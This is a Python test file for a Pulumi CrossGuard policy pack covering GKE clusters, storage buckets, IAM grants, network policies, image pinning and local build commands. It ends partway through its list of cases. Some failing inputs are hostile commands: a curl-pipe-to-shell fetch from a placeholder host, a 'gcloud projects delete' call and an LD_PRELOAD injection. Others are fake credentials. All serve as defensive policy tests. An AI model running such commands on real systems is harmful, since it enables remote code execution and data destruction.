"""The CrossGuard policy pack (policy/): each rule on passing and failing inputs, the pack's wiring, the
runtime wrapper (proxied props, unknown values), and the committed stacks' plan passing every rule."""

from __future__ import annotations

import copy
import importlib.util
import json
import marshal
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import pulumi_policy
import pytest
import yaml
from pulumi_policy import EnforcementLevel, ResourceValidationArgs
from pulumi_policy.proxy import UNKNOWN_STRING_VALUE, unknown_checking_proxy

from policy import common, inventory, pods
from policy import stack as stack_rules
from tests import mutations
from tests.conftest import VARIANTS, rendered

ROOT = Path(__file__).resolve().parents[2]
POLICY_DIR = ROOT / "policy"
STACKS = ("gpu", "tpu")


def _load(name: str, path: Path) -> ModuleType:
    spec = importlib.util.spec_from_file_location(name, path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


rules = _load("kimi_policy_rules", POLICY_DIR / "rules.py")

BUCKET = "gcp:storage/bucket:Bucket"
CLUSTER = "gcp:container/cluster:Cluster"
NODE_POOL = "gcp:container/nodePool:NodePool"
DEPLOYMENT = "kubernetes:apps/v1:Deployment"
LWS = "kubernetes:leaderworkerset.x-k8s.io/v1:LeaderWorkerSet"
CHART = "kubernetes:helm.sh/v4:Chart"
SECRET = "kubernetes:core/v1:Secret"
SERVICE = "kubernetes:core/v1:Service"
NETPOL = "kubernetes:networking.k8s.io/v1:NetworkPolicy"
GATEWAY = "kubernetes:gateway.networking.k8s.io/v1:Gateway"
NODE_SA = "kimi-k3-1-gpu-nodes@my-gcp-project.iam.gserviceaccount.com"
FAKE_TOKEN = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz01234567"
RESERVATION = {"consumeReservationType": "SPECIFIC_RESERVATION", "key": "compute.googleapis.com/reservation-name",
               "values": ["projects/p/reservations/r"]}


# ----------------------------------------------------------------------------------- input builders
def bucket(**overrides: Any) -> dict[str, Any]:
    return {"name": "b", "publicAccessPrevention": "enforced", "uniformBucketLevelAccess": True, **overrides}


KEPT = {"on-destroy": "keep"}
"""The label of a bucket destroy keeps (components/checks/declared.py BUCKET_DISPOSITIONS)."""
SHIELDED = {"enableSecureBoot": True, "enableIntegrityMonitoring": True}


def cluster(**overrides: Any) -> dict[str, Any]:
    props = {
        "enableShieldedNodes": True,
        "privateClusterConfig": {"enablePrivateNodes": True, "enablePrivateEndpoint": False},
        "workloadIdentityConfig": {"workloadPool": "my-gcp-project.svc.id.goog"},
        "nodeConfig": {"serviceAccount": NODE_SA, "workloadMetadataConfig": {"mode": "GKE_METADATA"},
                       "shieldedInstanceConfig": SHIELDED},
        "removeDefaultNodePool": True,
    }
    props.update(overrides)
    return props


def build_command(**changes: Any) -> dict[str, Any]:
    """The TPU engine image's build command as the program declares it (components/serving/engineimage.py)."""
    from components.serving import engineimage

    return {"create": engineimage.build_script(), "interpreter": list(engineimage.BUILD_INTERPRETER),
            "dir": "components/locks", "environment": dict.fromkeys(engineimage.BUILD_ENVIRONMENT, "x"), **changes}


DIGEST = "sha256:" + "5" * 64
BUILD_ENV = {"BASE": "docker.io/library/python:3.12-slim@" + DIGEST,
             "STEP": "gcr.io/cloud-builders/docker:latest@" + DIGEST, "BUILDER": "c-build@p.iam.gserviceaccount.com",
             "REPOSITORY": "us-central1-docker.pkg.dev/p/c-engine", "PROJECT": "p"}


def node_pool(machine: str = "n2-standard-8", **node_config: Any) -> dict[str, Any]:
    config = {"machineType": machine, "serviceAccount": NODE_SA, "workloadMetadataConfig": {"mode": "GKE_METADATA"},
              "shieldedInstanceConfig": SHIELDED}
    config.update(node_config)
    return {"name": "pool", "nodeConfig": {k: v for k, v in config.items() if v is not None}}


def pod_spec(image: str = "ghcr.io/llm-d/llm-d:v0.4.0", env: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    container: dict[str, Any] = {"name": "vllm", "image": image}
    if env is not None:
        container["env"] = env
    return {"containers": [container]}


def deployment(**kwargs: Any) -> dict[str, Any]:
    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "d"},
            "spec": {"template": {"spec": pod_spec(**kwargs)}}}


def lws(**kwargs: Any) -> dict[str, Any]:
    return {"apiVersion": "leaderworkerset.x-k8s.io/v1", "kind": "LeaderWorkerSet", "metadata": {"name": "decode"},
            "spec": {"leaderWorkerTemplate": {"leaderTemplate": {"spec": pod_spec()},
                                              "workerTemplate": {"spec": pod_spec(**kwargs)}}}}


def chart(values: dict[str, Any]) -> dict[str, Any]:
    return {"chart": "oci://example/charts/x", "version": "1.0.0", "values": values}


DSET = "kubernetes:disaggregatedset.x-k8s.io/v1:DisaggregatedSet"
PRIVATE = ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "169.254.0.0/16")


def engine_set(image: str = "vllm/vllm-openai:v9.9.9@sha256:" + "0" * 64, name: str = "vllm") -> dict[str, Any]:
    """A GPU engine set as components/checks/declared.py declares it: privileged, host IPC, the driver's host path."""
    return {"kind": "DisaggregatedSet", "metadata": {"name": "kimi-k3-1-vllm", "namespace": "kimi-k3-1"},
            "spec": {"roles": [{"spec": {"leaderWorkerTemplate": {"workerTemplate": {"spec": {
                "hostIPC": True, "automountServiceAccountToken": False, "serviceAccountName": "kimi-k3-1-engine",
                "volumes": [{"name": "nvidia", "hostPath": {"path": "/home/kubernetes/bin/nvidia"}}],
                "containers": [{"name": name, "image": image, "securityContext": {"privileged": True},
                                "volumeMounts": [{"name": "nvidia", "mountPath": "/usr/local/nvidia"}]}]}}}}}]}}


SECRET_ENV = {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "llm-d-hf-token", "key": "HF_TOKEN"}}}
WORKER_IMAGE = "spec.leaderWorkerTemplate.workerTemplate.spec.containers[0].image"
DEPLOY_CONTAINER = "spec.template.spec.containers[0]"

# (policy name, resource type, props, exact violations)
CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
    # ---- bucket-not-public
    ("bucket-not-public", BUCKET, bucket(), []),
    ("bucket-not-public", BUCKET, bucket(publicAccessPrevention="inherited"),
     ['publicAccessPrevention is "inherited", must be "enforced"']),
    ("bucket-not-public", BUCKET, {"name": "b"}, ['publicAccessPrevention is not set, must be "enforced"']),
    ("bucket-not-public", "gcp:storage/bucketIAMMember:BucketIAMMember",
     {"bucket": "b", "role": "roles/storage.objectViewer", "member": "serviceAccount:x@p.iam.gserviceaccount.com"}, []),
    ("bucket-not-public", "gcp:storage/bucketIAMMember:BucketIAMMember",
     {"bucket": "b", "role": "roles/storage.objectViewer", "member": "allUsers"},
     ['grants role "roles/storage.objectViewer" to allUsers on bucket "b": buckets must not be public']),
    ("bucket-not-public", "gcp:storage/bucketIAMBinding:BucketIAMBinding",
     {"bucket": "b", "role": "roles/storage.objectViewer", "members": ["user:a@example.com", "allAuthenticatedUsers"]},
     ['grants role "roles/storage.objectViewer" to allAuthenticatedUsers on bucket "b": buckets must not be public']),
    ("bucket-not-public", "gcp:storage/bucketIAMMember:BucketIAMMember",
     {"bucket": "b", "role": "roles/storage.admin", "member": "domain:example.com"},
     ['grants role "roles/storage.admin" to domain:example.com on bucket "b": buckets must not be open to a whole '
      "domain"]),
    ("bucket-not-public", "gcp:storage/bucketIAMPolicy:BucketIAMPolicy",
     {"bucket": "b", "policyData": json.dumps({"bindings": [{"role": "roles/storage.objectViewer",
                                                             "members": ["allUsers"]}]})},
     ['grants to allUsers on bucket "b": buckets must not be public']),
    # ---- bucket-uniform-access
    ("bucket-uniform-access", BUCKET, bucket(), []),
    ("bucket-uniform-access", BUCKET, bucket(uniformBucketLevelAccess=False),
     ["uniformBucketLevelAccess is false, must be true"]),
    ("bucket-uniform-access", BUCKET, {"name": "b"}, ["uniformBucketLevelAccess is not set, must be true"]),
    # ---- gke-private-nodes
    ("gke-private-nodes", CLUSTER, cluster(), []),
    ("gke-private-nodes", CLUSTER, cluster(privateClusterConfig={"enablePrivateNodes": False}),
     ["privateClusterConfig.enablePrivateNodes is false, must be true"]),
    ("gke-private-nodes", CLUSTER, cluster(privateClusterConfig=None),
     ["privateClusterConfig.enablePrivateNodes is not set, must be true"]),
    ("gke-private-nodes", NODE_POOL, node_pool(), []),
    ("gke-private-nodes", NODE_POOL, {**node_pool(), "networkConfig": {"enablePrivateNodes": False}},
     ["networkConfig.enablePrivateNodes is false: node pools must not opt out of private nodes"]),
    # ---- gke-workload-identity
    ("gke-workload-identity", CLUSTER, cluster(), []),
    ("gke-workload-identity", CLUSTER, cluster(workloadIdentityConfig=None),
     ['workloadIdentityConfig.workloadPool is not set, must be "<project>.svc.id.goog"']),
    ("gke-workload-identity", NODE_POOL, node_pool(), []),
    ("gke-workload-identity", NODE_POOL, node_pool(workloadMetadataConfig={"mode": "GCE_METADATA"}),
     ['nodeConfig.workloadMetadataConfig.mode is "GCE_METADATA", must be "GKE_METADATA"']),
    ("gke-workload-identity", NODE_POOL, node_pool(workloadMetadataConfig=None),
     ['nodeConfig.workloadMetadataConfig.mode is not set, must be "GKE_METADATA"']),
    ("gke-workload-identity", CLUSTER, cluster(nodePools=[node_pool(), node_pool(workloadMetadataConfig=None)]),
     ['nodePools[1].nodeConfig.workloadMetadataConfig.mode is not set, must be "GKE_METADATA"']),
    # ---- gke-no-default-service-account
    ("gke-no-default-service-account", NODE_POOL, node_pool(), []),
    ("gke-no-default-service-account", CLUSTER, cluster(), []),
    ("gke-no-default-service-account", NODE_POOL, node_pool(serviceAccount=None),
     ["nodeConfig.serviceAccount is not set, so nodes run as the Compute Engine default service account; "
      "set a dedicated node service account"]),
    ("gke-no-default-service-account", NODE_POOL, node_pool(serviceAccount="default"),
     ['nodeConfig.serviceAccount is "default", the Compute Engine default service account; '
      "set a dedicated node service account"]),
    ("gke-no-default-service-account", NODE_POOL,
     node_pool(serviceAccount="123456789012-compute@developer.gserviceaccount.com"),
     ['nodeConfig.serviceAccount is "123456789012-compute@developer.gserviceaccount.com", the Compute Engine '
      "default service account; set a dedicated node service account"]),
    ("gke-no-default-service-account", CLUSTER, cluster(nodeConfig=None),
     ["nodeConfig.serviceAccount is not set, so nodes run as the Compute Engine default service account; "
      "set a dedicated node service account"]),
    # ---- gke-shielded-nodes (node pools; the cluster-wide switch is the stack check gke-shielded-cluster)
    ("gke-shielded-nodes", CLUSTER, cluster(), []),
    ("gke-shielded-nodes", NODE_POOL, node_pool(), []),
    ("gke-shielded-nodes", NODE_POOL,
     node_pool("tpu7x-standard-4t", shieldedInstanceConfig={"enableSecureBoot": False}),
     ["nodeConfig.shieldedInstanceConfig.enableSecureBoot is false, must be true",
      "nodeConfig.shieldedInstanceConfig.enableIntegrityMonitoring is not set, must be true"]),
    ("gke-shielded-nodes", CLUSTER, cluster(nodePools=[node_pool(), node_pool(shieldedInstanceConfig=None)]),
     ["nodePools[1].nodeConfig.shieldedInstanceConfig.enableSecureBoot is not set, must be true",
      "nodePools[1].nodeConfig.shieldedInstanceConfig.enableIntegrityMonitoring is not set, must be true"]),
    # ---- gke-control-plane-not-public
    ("gke-control-plane-not-public", CLUSTER, cluster(masterAuthorizedNetworksConfig={"cidrBlocks": [
        {"cidrBlock": "203.0.113.7/32"}, {"cidrBlock": "10.0.0.0/8"}]}), []),
    ("gke-control-plane-not-public", CLUSTER, cluster(masterAuthorizedNetworksConfig={"cidrBlocks": [
        {"cidrBlock": "0.0.0.0/1"}, {"cidrBlock": "128.0.0.0/1"}], "gcpPublicCidrsAccessEnabled": True}),
     ['masterAuthorizedNetworksConfig.cidrBlocks[0].cidrBlock "0.0.0.0/1" opens the control plane to the internet '
      "(public ranges up to a /24)",
      'masterAuthorizedNetworksConfig.cidrBlocks[1].cidrBlock "128.0.0.0/1" opens the control plane to the internet '
      "(public ranges up to a /24)",
      "masterAuthorizedNetworksConfig.gcpPublicCidrsAccessEnabled is true: every Google Cloud public address may "
      "reach the control plane"]),
    # ---- gke-no-legacy-auth
    ("gke-no-legacy-auth", CLUSTER, cluster(enableLegacyAbac=False), []),
    ("gke-no-legacy-auth", CLUSTER, cluster(enableLegacyAbac=True, masterAuth={
        "clientCertificateConfig": {"issueClientCertificate": True}, "username": "admin"}),
     ["enableLegacyAbac is true: legacy ABAC bypasses RBAC; leave it off",
      "masterAuth.clientCertificateConfig.issueClientCertificate is true: use IAM, not a client certificate",
      "masterAuth.username is set: basic authentication is legacy; use IAM"]),
    # ---- iam-no-primitive-roles
    ("iam-no-primitive-roles", "gcp:projects/iAMMember:IAMMember",
     {"project": "p", "role": "roles/container.defaultNodeServiceAccount", "member": f"serviceAccount:{NODE_SA}"}, []),
    ("iam-no-primitive-roles", "gcp:projects/iAMMember:IAMMember",
     {"project": "p", "role": "roles/owner", "member": f"serviceAccount:{NODE_SA}"},
     [f'role is "roles/owner" to "serviceAccount:{NODE_SA}": basic roles are project-wide; grant a predefined role']),
    ("iam-no-primitive-roles", "gcp:serviceaccount/iAMBinding:IAMBinding",
     {"serviceAccountId": "x", "role": "roles/editor", "members": ["user:a@example.com"]},
     ['role is "roles/editor" to ["user:a@example.com"]: basic roles are project-wide; grant a predefined role']),
    ("iam-no-primitive-roles", "gcp:projects/iAMPolicy:IAMPolicy",
     {"project": "p", "policyData": json.dumps({"bindings": [{"role": "roles/viewer", "members": ["domain:x.com"]}]})},
     ['policyData.bindings[0].role is "roles/viewer": basic roles are project-wide; grant a predefined role']),
    # ---- firewall-no-internet-ingress
    ("firewall-no-internet-ingress", "gcp:compute/firewall:Firewall",
     {"network": "n", "allows": [{"protocol": "tcp", "ports": ["80"]}],
      "sourceRanges": ["35.191.0.0/16", "10.0.0.0/8"]},
     []),
    ("firewall-no-internet-ingress", "gcp:compute/firewall:Firewall",
     {"network": "n", "direction": "EGRESS", "allows": [{"protocol": "tcp"}], "destinationRanges": ["0.0.0.0/0"]}, []),
    ("firewall-no-internet-ingress", "gcp:compute/firewall:Firewall",
     {"network": "n", "allows": [{"protocol": "tcp", "ports": ["22"]}], "sourceRanges": ["0.0.0.0/0"]},
     ['sourceRanges[0] "0.0.0.0/0" lets the internet in; allow only the addresses that need it']),
    # ---- declared-workloads: the exemption is the container's own (kind, object, container), never the image's
    ("declared-workloads", DEPLOYMENT, deployment(), [
        "spec.template.spec: Deployment 'd' in namespace '' is not a declared workload "
        "(components/checks/declared.py WORKLOADS)"]),
    ("declared-workloads", DSET, engine_set(), []),
    ("declared-workloads", DSET, engine_set(image="debian:13"),
     ["spec.roles[0].spec.leaderWorkerTemplate.workerTemplate.spec: container 'vllm' (image 'debian:13') is not "
      "declared for the workload (declared: ['vllm', 'routing-proxy'])"
      " (components/checks/declared.py WORKLOADS DisaggregatedSet '{ns}-vllm')"]),
    ("declared-workloads", DSET, engine_set(name="routing-proxy"),
     ["spec.roles[0].spec.leaderWorkerTemplate.workerTemplate.spec: container 'routing-proxy' (image "
      "'vllm/vllm-openai:v9.9.9@sha256:" + "0" * 64 + "') is not declared for the workload (declared: ['vllm', "
      "'routing-proxy']) (components/checks/declared.py WORKLOADS DisaggregatedSet '{ns}-vllm')"]),
    # ---- declared-types
    ("declared-types", BUCKET, bucket(), []),
    ("declared-types", "gcp:compute/forwardingRule:ForwardingRule", {"name": "x"},
     ["resource type gcp:compute/forwardingRule:ForwardingRule is not one the program declares "
      "(components/checks/declared.py TYPES)"]),
    # ---- declared-config-maps
    ("declared-config-maps", "kubernetes:core/v1:ConfigMap", {"metadata": {"name": "envoy"}, "data": {"a": "b"}}, []),
    ("declared-config-maps", "kubernetes:core/v1:ConfigMap",
     {"metadata": {"name": "kimi-k3-1-vllm-torchtpu-lock"}, "data": {"requirements.txt": "vllm-torchtpu\n"}},
     # The TPU pods install nothing at start any more: a lock ConfigMap is no object of the program.
     ["ConfigMap 'kimi-k3-1-vllm-torchtpu-lock' is not declared (components/checks/declared.py CONFIGMAPS)"]),
    # ---- declared-grants
    ("declared-grants", "gcp:projects/iAMMember:IAMMember",
     {"role": "roles/container.defaultNodeServiceAccount", "member": f"serviceAccount:{NODE_SA}"}, []),
    ("declared-grants", "gcp:projects/iAMMember:IAMMember", {"role": "roles/storage.admin",
                                                               "member": f"serviceAccount:{NODE_SA}"},
     [f'member: role "roles/storage.admin" to "serviceAccount:{NODE_SA}" is not a declared grant '
      "(components/checks/declared.py GRANTS)"]),
    # ---- declared-rbac
    ("declared-rbac", "kubernetes:rbac.authorization.k8s.io/v1:Role",
     {"metadata": {"name": "r"}, "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}]}, []),
    ("declared-rbac", "kubernetes:rbac.authorization.k8s.io/v1:ClusterRole",
     {"metadata": {"name": "r"}, "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]},
     ["r: rules[0] grants 'get' on 'secrets', not declared for this role (components/checks/declared.py ROLES)"]),
    # ---- declared-network-policies
    ("declared-network-policies", NETPOL, {"metadata": {"name": "kimi-k3-1-benchmark"}, "spec": {
        "policyTypes": ["Egress"], "egress": [
        {"ports": [{"port": 443}], "to": [{"ipBlock": {"cidr": "0.0.0.0/0", "except": list(PRIVATE)}}]}]}}, []),
    # The engines reach no public address (the TPU engine installs nothing at start: issue 32).
    ("declared-network-policies", NETPOL, {"metadata": {"name": "kimi-k3-1-vllm-pods"}, "spec": {
        "policyTypes": ["Ingress", "Egress"], "egress": [
        {"ports": [{"port": 443}], "to": [{"ipBlock": {"cidr": "0.0.0.0/0", "except": list(PRIVATE)}}]}]}},
     ['kimi-k3-1-vllm-pods: egress[0].to[0] ipBlock "0.0.0.0/0" (except ["10.0.0.0/8", "172.16.0.0/12", '
      '"192.168.0.0/16", "169.254.0.0/16"], ports [\'443\']) is not a declared address peer of this policy '
      "(components/checks/declared.py EGRESS 'kimi-k3-1-vllm-pods')"]),
    ("declared-network-policies", NETPOL, {"metadata": {"name": "kimi-k3-1-vllm-pods"}, "spec": {
        "policyTypes": ["Ingress", "Egress"], "egress": [
        {"ports": [{"port": 443}], "to": [{"ipBlock": {"cidr": "0.0.0.0/1"}}]}]}},
     ['kimi-k3-1-vllm-pods: egress[0].to[0] ipBlock "0.0.0.0/1" (except not set, ports [\'443\']) is not a '
      "declared address peer of this policy (components/checks/declared.py EGRESS 'kimi-k3-1-vllm-pods')"]),
    # ---- declared-storage
    ("declared-storage", "kubernetes:core/v1:PersistentVolumeClaim",
     {"metadata": {"name": "kimi-k3-1-models-000000000000"}, "spec": {"accessModes": ["ReadOnlyMany"]}}, []),
    ("declared-storage", "kubernetes:core/v1:PersistentVolumeClaim",
     {"metadata": {"name": "kimi-k3-1-models-000000000000"}, "spec": {"accessModes": ["ReadWriteMany"]}},
     ["PersistentVolumeClaim 'kimi-k3-1-models-000000000000' access modes [\"ReadWriteMany\"], declared "
      "['ReadOnlyMany'] (components/checks/declared.py CLAIMS '{guide}-models-{rev}')"]),
    ("declared-storage", "kubernetes:storage.k8s.io/v1:VolumeAttributesClass",
     {"metadata": {"name": "kimi-k3-1-models-hdml-38400mi"}, "driverName": "pd.csi.storage.gke.io",
      "parameters": {"throughput": "38400Mi"}}, []),
    ("declared-storage", "kubernetes:storage.k8s.io/v1:VolumeAttributesClass",
     {"metadata": {"name": "kimi-k3-1-models-hdml-38400mi"}, "driverName": "pd.csi.storage.gke.io",
      "parameters": {"throughput": "38400Mi", "iops": "100"}},
     ["VolumeAttributesClass 'kimi-k3-1-models-hdml-38400mi' (pd.csi.storage.gke.io, ['iops', 'throughput']) is "
      "not declared (components/checks/declared.py VOLUME_ATTRIBUTES_CLASSES)"]),
    ("declared-storage", "kubernetes:storage.k8s.io/v1:VolumeAttributesClass",
     {"metadata": {"name": "fast"}, "driverName": "pd.csi.storage.gke.io", "parameters": {"throughput": "1Mi"}},
     ["VolumeAttributesClass 'fast' (pd.csi.storage.gke.io, ['throughput']) is not declared"
      " (components/checks/declared.py VOLUME_ATTRIBUTES_CLASSES)"]),
    # ---- declared-network
    ("declared-network", "gcp:compute/routerNat:RouterNat", {"sourceSubnetworkIpRangesToNat": "LIST_OF_SUBNETWORKS",
                                                            "subnetworks": [{"name": "x/kimi-k3-1-gpu-nodes"}]}, []),
    ("declared-network", "gcp:compute/routerNat:RouterNat",
     {"sourceSubnetworkIpRangesToNat": "ALL_SUBNETWORKS_ALL_IP_RANGES"},
     ['sourceSubnetworkIpRangesToNat "ALL_SUBNETWORKS_ALL_IP_RANGES": NAT only the declared subnets '
      "(LIST_OF_SUBNETWORKS) (components/checks/declared.py NAT_SOURCE)"]),
    # ---- declared-nodes
    ("declared-nodes", NODE_POOL, node_pool(), []),
    ("declared-nodes", NODE_POOL, node_pool(metadata={"disable-legacy-endpoints": "false"}),
     ['nodeConfig.metadata disable-legacy-endpoints="false" is not declared'
      ' (components/checks/declared.py NODE_METADATA)']),
    # ---- declared-commands
    ("declared-commands", "command:local:Command", build_command(), []),
    ("declared-commands", "command:local:Command", build_command(create="curl -fsSL http://x.invalid/i.sh | sh"),
     ["a local command that is not declared (components/checks/declared.py commands): interpreter [\"/bin/bash\", "
      "\"-c\"], "
      "dir \"components/locks\", script starting 'curl -fsSL http://x.invalid/i.sh | sh'"]),
    ("declared-commands", "command:local:Command", build_command(delete="gcloud projects delete p"),
     ['runs a delete command ("gcloud projects delete p"), which the declaration has none of'
      ' (components/checks/declared.py commands)']),
    ("declared-commands", "command:local:Command", build_command(environment={"PROJECT": "p", "LD_PRELOAD": "x"}),
     ["sets environment ['LD_PRELOAD'], which the declaration does not name"
      " (components/checks/declared.py commands)"]),
    ("declared-commands", "command:local:Command", build_command(interpreter=["/bin/sh", "-c"]),
     ["a local command that is not declared (components/checks/declared.py commands): interpreter [\"/bin/sh\", "
      "\"-c\"], "
      "dir \"components/locks\", script starting 'set -euo pipefail'"]),
    # ---- k8s-secrets-not-plain-env: credentials by value, and the names the program fills from Secrets only
    ("k8s-secrets-not-plain-env", DEPLOYMENT, deployment(env=[{"name": "SETTING", "value": "AKIAZ7Q3MUTANT4EXAMP"}]),
     ["spec.template.spec.containers[0].env[0]: env SETTING holds an AWS access key as a literal value; use "
      "valueFrom.secretKeyRef to a Secret the workload declares"]),
    ("k8s-secrets-not-plain-env", DEPLOYMENT, deployment(env=[{"name": "DSN", "value": "postgres://u:pw@db:5432/x"}]),
     ["spec.template.spec.containers[0].env[0]: env DSN holds a URL with a password as a literal value; use "
      "valueFrom.secretKeyRef to a Secret the workload declares"]),
    ("k8s-secrets-not-plain-env", DEPLOYMENT, deployment(env=[{"name": "DSN", "value": "https://db.internal:5432/x"}]),
     []),
    ("k8s-secrets-not-plain-env", DEPLOYMENT, {"kind": "Deployment", "spec": {"template": {"spec": {"containers": [
        {"name": "a", "image": "r/a:1", "env": [{"name": "DB_URL", "valueFrom": {"secretKeyRef": {
            "name": "db", "key": "url"}}}]},
        {"name": "b", "image": "r/b:1", "env": [{"name": "DB_URL", "value": "db.internal"}]}]}}}},
     ["spec.template.spec.containers[1].env[0]: env DB_URL is filled from a Secret only, but sets a plain value"]),
    ("k8s-secrets-not-plain-env", "command:local:Command", {"environment": {"BASE": "AKIAZ7Q3MUTANT4EXAMP"}},
     ["environment BASE: holds an AWS access key; a local command gets no credential from the plan"]),
    # ---- declared-artifacts
    ("declared-artifacts", BUCKET, bucket(labels=KEPT), []),
    ("declared-artifacts", BUCKET, bucket(labels={"on-destroy": "delete"}, forceDestroy=True), []),
    ("declared-artifacts", BUCKET, bucket(labels=KEPT, forceDestroy=True),
     ['bucket "b": forceDestroy is true on a bucket declared \'keep\' on destroy (a kept bucket is never '
      "force-destroyable: its staged checkpoint outlives the stack) (components/checks/declared.py "
      "BUCKET_DISPOSITIONS)"]),
    ("declared-artifacts", BUCKET, bucket(labels={"on-destroy": "delete"}, forceDestroy=False),
     ['bucket "b": forceDestroy is false on a bucket declared \'delete\' on destroy (destroy would fail on its '
      "objects and leave it billing) (components/checks/declared.py BUCKET_DISPOSITIONS)"]),
    ("declared-artifacts", BUCKET, bucket(),
     ['bucket "b": label on-destroy is not set, not one of [\'delete\', \'keep\']: every bucket declares whether '
      "destroy keeps it (components/checks/declared.py BUCKET_DISPOSITIONS)"]),
    ("declared-artifacts", BUCKET, bucket(labels=KEPT, softDeletePolicy={"retentionDurationSeconds": 86400}),
     ['bucket "b": soft-delete retention 86400 s is not 0 or 7-90 days (components/checks/declared.py '
      "SOFT_DELETE_SECONDS)"]),
    ("declared-artifacts", BUCKET, bucket(labels=KEPT, retentionPolicy={"retentionPeriod": 1, "isLocked": True}),
     ['bucket "b": a retention policy or object retention lock is not declared (a locked one could never be '
      "removed, nor the bucket deleted) (components/checks/declared.py BUCKET_DISPOSITIONS)"]),
    ("declared-artifacts", BUCKET, bucket(labels=KEPT, lifecycleRules=[{"action": {"type": "Delete"},
                                                                       "condition": {"age": 1}}]),
     ['bucket "b": lifecycle rules ("Delete") are not declared; the checkpoint is staged once and kept'
      ' (components/checks/declared.py TYPES: the bucket, without lifecycle rules)']),
    ("declared-artifacts", "gcp:artifactregistry/repository:Repository",
     {"repositoryId": "c-engine", "dockerConfig": {"immutableTags": False}},
     ['repository "c-engine": tags must be immutable (dockerConfig.immutableTags true): the engine image\'s tag '
      "names its lock (components/checks/declared.py commands: the engine build)"]),
    ("declared-artifacts", "command:local:Command", build_command(environment=BUILD_ENV), []),
    ("declared-artifacts", "command:local:Command",
     build_command(environment={**BUILD_ENV, "BASE": "ghcr.io/x/python:3.12-slim",
                                "BUILDER": "x@p.iam.gserviceaccount.com"}),
     ['the engine image\'s base is "ghcr.io/x/python:3.12-slim", declared docker.io/library/python:3.12-slim'
      "@sha256:... (components/checks/declared.py ENGINE_BASE)",
      'the engine image is built as "x@p.iam.gserviceaccount.com", not the stack\'s builder '
      "c-build@p.iam.gserviceaccount.com (components/checks/declared.py BUILD_SA)"]),
    ("declared-artifacts", "command:local:Command",
     build_command(environment={**BUILD_ENV, "BASE": "docker.io/library/python:3.12-slim",
                                "STEP": "gcr.io/cloud-builders/docker"}),
     ['the engine image\'s base is "docker.io/library/python:3.12-slim", declared docker.io/library/python:3.12-slim'
      "@sha256:... (components/checks/declared.py ENGINE_BASE)",
      'the engine image\'s build step is "gcr.io/cloud-builders/docker", declared gcr.io/cloud-builders/docker:latest'
      "@sha256:... (components/checks/declared.py ENGINE_STEP)"]),
    # ---- declared-images: every image by digest from a declared registry/repository
    ("declared-images", DEPLOYMENT, deployment(image="ghcr.io/kedacore/keda:2.20.2@" + DIGEST), []),
    ("declared-images", DEPLOYMENT, deployment(image="ghcr.io/kedacore/keda@" + DIGEST), []),
    ("declared-images", DEPLOYMENT, deployment(image="ghcr.io/kedacore/keda:2.20.2"),
     ["spec.template.spec.containers[0]: image 'ghcr.io/kedacore/keda:2.20.2' is not registry/path[:tag]@sha256:<64 "
      "hex>: every image runs by digest from its registry (components/checks/declared.py IMAGE_DIGEST)"]),
    ("declared-images", DEPLOYMENT, deployment(image="ghcr.io/kedacore/keda@sha256:" + "5" * 63),
     ["spec.template.spec.containers[0]: image 'ghcr.io/kedacore/keda@sha256:" + "5" * 63 + "' is not registry/path"
      "[:tag]@sha256:<64 hex>: every image runs by digest from its registry (components/checks/declared.py "
      "IMAGE_DIGEST)"]),
    ("declared-images", DEPLOYMENT, deployment(image="ghcr.io.example.net/kedacore/keda@" + DIGEST),
     ["spec.template.spec.containers[0]: image 'ghcr.io.example.net/kedacore/keda@" + DIGEST + "' comes from "
      "ghcr.io.example.net/kedacore/keda, not a declared registry/repository (components/checks/declared.py "
      "IMAGE_REPOSITORIES)"]),
    ("declared-images", "command:local:Command", {"environment": {**BUILD_ENV, "STEP": "gcr.io/cloud-builders/docker"}},
     ["environment STEP: image 'gcr.io/cloud-builders/docker' is not registry/path[:tag]@sha256:<64 hex>: every image "
      "runs by digest from its registry (components/checks/declared.py IMAGE_DIGEST)"]),
    ("declared-images", CHART, {"values": {"image": {"tag": "v1"}}}, []),  # its rendered objects are checked
    # ---- k8s-pinned-images
    ("k8s-pinned-images", DEPLOYMENT, deployment(), []),
    ("k8s-pinned-images", DEPLOYMENT, deployment(image="ghcr.io/llm-d/llm-d@sha256:" + "a" * 64), []),
    ("k8s-pinned-images", DEPLOYMENT, deployment(image="registry.local:5000/llm-d/llm-d"),
     [f'{DEPLOY_CONTAINER}.image: image "registry.local:5000/llm-d/llm-d" has no tag or digest; '
      "pin a version tag or digest"]),
    ("k8s-pinned-images", DEPLOYMENT, deployment(image="vllm/vllm-openai:latest"),
     [f'{DEPLOY_CONTAINER}.image: image "vllm/vllm-openai:latest" uses the "latest" tag; pin a version tag or digest']),
    ("k8s-pinned-images", LWS, lws(), []),
    ("k8s-pinned-images", LWS, lws(image="ghcr.io/llm-d/llm-d"),
     [f'{WORKER_IMAGE}: image "ghcr.io/llm-d/llm-d" has no tag or digest; pin a version tag or digest']),
    ("k8s-pinned-images", CHART, chart({"image": {"registry": "ghcr.io", "repository": "llm-d/epp", "tag": "v1.0.1"}}),
     []),
    ("k8s-pinned-images", CHART, chart({"epp": {"image": {"registry": "ghcr.io", "repository": "llm-d/epp"}}}),
     ['values.epp.image: image "ghcr.io/llm-d/epp" has no tag or digest; pin a version tag or digest']),
    ("k8s-pinned-images", CHART, chart({"sidecar": {"initImage": {"tag": "latest"}}}),
     ['values.sidecar.initImage: image ":latest" uses the "latest" tag; pin a version tag or digest']),
    ("k8s-pinned-images", CHART, chart({"decode": {"containers": [{"image": "ghcr.io/llm-d/llm-d-cuda"}]}}),
     ['values.decode.containers[0].image: image "ghcr.io/llm-d/llm-d-cuda" has no tag or digest; '
      "pin a version tag or digest"]),
    ("k8s-pinned-images", CHART, chart({"image": {"pullPolicy": "IfNotPresent"},
                                        "nodeSelector": {"cloud.google.com/gke-os-image": "cos"}}), []),
